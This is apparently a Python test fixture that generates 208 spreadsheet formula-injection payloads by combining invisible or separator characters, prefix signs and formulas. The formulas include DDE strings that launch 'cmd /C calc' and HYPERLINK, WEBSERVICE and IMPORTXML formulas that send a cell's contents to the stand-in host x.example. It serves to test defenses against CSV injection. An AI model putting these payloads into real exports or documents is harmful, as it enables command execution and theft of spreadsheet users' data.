"""Two hundred texts that somebody could type where a spreadsheet will read them."""

from __future__ import annotations

from itertools import product
from typing import Final

_FORMULAS: Final = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"Press")',
    'WEBSERVICE("http://x.example/"&A1)',
    'IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    "SUM(1+9)*cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "A1",
)
_SIGNS: Final = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
# What stands before the sign: nothing, what programs skip, and what ends a cell elsewhere.
_BEFORE: Final = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\0",
    "\ufeff",
    "\u200b",
    "\u00a0",
    '"',
    "a;",
    "a\t",
    "a\n",
)

PAYLOADS: Final = tuple(
    before + sign + formula
    for before, (sign, formula) in product(
        _BEFORE, [(sign, _FORMULAS[(i + i // 8) % 8]) for i, sign in enumerate(_SIGNS * 2)]
    )
)[:208]
